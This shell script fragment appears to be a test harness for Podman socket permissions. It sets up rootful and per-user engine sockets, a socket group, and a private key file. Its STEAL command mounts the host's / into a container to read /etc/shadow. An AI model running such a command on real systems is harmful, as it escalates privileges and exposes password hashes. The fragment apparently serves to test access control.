# The engine's socket, and who may talk to it.

await_socket() { for i in $(seq 40); do [ -S "$1" ] && break; sleep 0.05; done; }

# The engine of the host's root.
engine_service() {
    mkdir -p /run/podman
    setsid podman system service -t 0 unix:///run/podman/podman.sock >/dev/null 2>&1 </dev/null &
    await_socket /run/podman/podman.sock
    cp -a /lab/root /lab/root2
}

# The group `podman`, which may use the socket, with these members.
engine_group() {
    echo "podman:x:2001:$1" >> /etc/group
    chgrp 2001 /run/podman/podman.sock
    chmod 660 /run/podman/podman.sock
}

# Starts a container through the socket that binds /, and reads the host's password hashes.
STEAL="podman --remote --url unix:///run/podman/podman.sock run --rm --network=none -v /:/host --rootfs /lab/root2 /bin/cat /host/etc/shadow"

# The engine of the user lab, who has a key that nobody else may read.
user_engine_service() {
    mkdir -p /run/user/1001/podman
    chown lab:lab /run/user/1001/podman
    echo 'private key' > /home/lab/id
    chown lab:lab /home/lab/id
    chmod 600 /home/lab/id
    cp -a /lab/root /lab/root2
    chown -R lab:lab /lab/root /lab/root2
    as_user lab setsid podman system service -t 0 unix:///run/user/1001/podman/podman.sock >/dev/null 2>&1 </dev/null &
    await_socket /run/user/1001/podman/podman.sock
}
